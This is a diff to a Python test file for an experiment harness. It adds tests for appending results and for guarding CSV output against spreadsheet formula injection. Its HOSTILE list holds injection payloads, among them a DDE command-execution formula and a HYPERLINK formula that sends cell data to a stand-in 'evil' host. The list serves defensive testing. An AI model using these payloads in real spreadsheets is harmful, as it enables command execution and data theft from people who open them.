@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import csv
 import json
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 from pathlib import Path
 
 import jsonschema
@@ -16,6 +16,7 @@ from safetensors.torch import load_file
 from memory_harness.configs.errors import ConfigError
 from memory_harness.configs.models import find_model
 from memory_harness.configs.preset import load_preset
+from memory_harness.configs.printable import text_of
 from memory_harness.configs.schema import RunConfig
 from memory_harness.harness.data.batching import left_padded
 from memory_harness.harness.data.prepare import Prepared, prepare
@@ -25,6 +26,7 @@ from memory_harness.harness.log.runlog import RunLog, read_run_log
 from memory_harness.harness.observe.recorder import PhaseRecorder
 from memory_harness.harness.results import experiments
 from memory_harness.harness.results.experiments import (
+    LISTS,
     append_experiment,
     append_responses,
     check_artefacts,
@@ -161,8 +163,6 @@ def test_the_artefacts_are_valid_and_are_appended_to(trained: Trained, tmp_path:
 
 def test_what_another_process_wrote_of_the_same_run_is_replaced(trained: Trained, tmp_path: Path) -> None:
     """A run that went out of memory and was remedied, or was killed before all was written, is one experiment."""
-    from dataclasses import replace
-
     other = replace(trained.log.run, started_at="2020-01-01T00:00:00+00:00")
     append_responses(tmp_path, other, trained.data, trained.replies)
     for _ in range(2):
@@ -177,6 +177,56 @@ def test_what_another_process_wrote_of_the_same_run_is_replaced(trained: Trained
     assert len(json.loads((tmp_path / "LLAMAExperiments.json").read_text())["experiments"]) == 2
     assert is_written_down(tmp_path / "x-train")
     assert not is_written_down(tmp_path / "z-train")
+
+
+def test_runs_that_began_in_the_same_second_keep_their_replies(trained: Trained, tmp_path: Path) -> None:
+    run = trained.log.run
+    twins = [replace(run, id=name) for name in ("a", "b", "c")]
+    for twin in twins:
+        append_responses(tmp_path, twin, trained.data, trained.replies, replace_earlier=True)
+    ids = [reply["experiment_id"] for reply in read_responses(tmp_path)]
+    assert ids == [experiment_id(twin) for twin in twins for _ in trained.replies]
+    assert len(set(ids)) == 3
+    assert run.id
+    assert run.id in experiment_id(run)
+
+
+def test_what_others_have_added_to_a_file_survives(trained: Trained, tmp_path: Path) -> None:
+    for name, key in LISTS.items():
+        text = f'{{"notes": "mine \\ud83d\\ude00", "schema_version": 1, "{key}": [], "more": {{"a": [1, null]}}}}'
+        (tmp_path / name).write_text(text)
+    _append_both(trained, tmp_path)
+    for name, key in LISTS.items():
+        content = json.loads((tmp_path / name).read_text(encoding="utf-8"))
+        assert (content["notes"], content["more"]) == ("mine 😀", {"a": [1, None]})
+        assert content[key]
+
+
+HOSTILE = [
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil/?x="&A1)',
+    "+1",
+    "-1",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+    "'quoted",
+    "a\x1b[2Jb",
+]
+
+
+def test_no_cell_of_a_table_is_a_formula(trained: Trained, tmp_path: Path) -> None:
+    replies = [replace(trained.replies[0], text=text) for text in HOSTILE]
+    append_responses(tmp_path, trained.log.run, trained.data, replies)
+    assert [reply["response"] for reply in read_responses(tmp_path)] == HOSTILE
+    with (tmp_path / "GeneratedResponses.csv").open(encoding="utf-8-sig", newline="") as file:
+        cells = [row["response"] for row in csv.DictReader(file)]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    assert [text_of(cell) for cell in cells] == [*HOSTILE[:-1], "a\ufffd[2Jb"]
+    write_sheet(tmp_path, seed=0)
+    with (tmp_path / SHEET).open(encoding="utf-8-sig", newline="") as file:
+        sheet = [row["response"] for row in csv.DictReader(file)]
+    assert sorted(sheet) == sorted(cells)
 
 
 def _append_both(trained: Trained, folder: Path) -> None:
@@ -211,7 +261,6 @@ def test_a_file_that_is_not_ours_is_left_alone(
     ("text", "reason"),
     [
         ('{"schema_version": 1, "responses": [{"x": NaN}]}', "NaN is no number of JSON"),
-        ('{"schema_version": 1, "responses": [{"question": "\\ud800"}]}', "surrogates not allowed"),
         ('{"schema_version": 1, "responses": [{"question": "x"}]}', "number 1 of responses lacks one of experiment_id"),
         ('{"schema_version": 1, "responses": ["x"]}', "number 1 of responses lacks"),
         ("[" * 100_000, "recursion"),
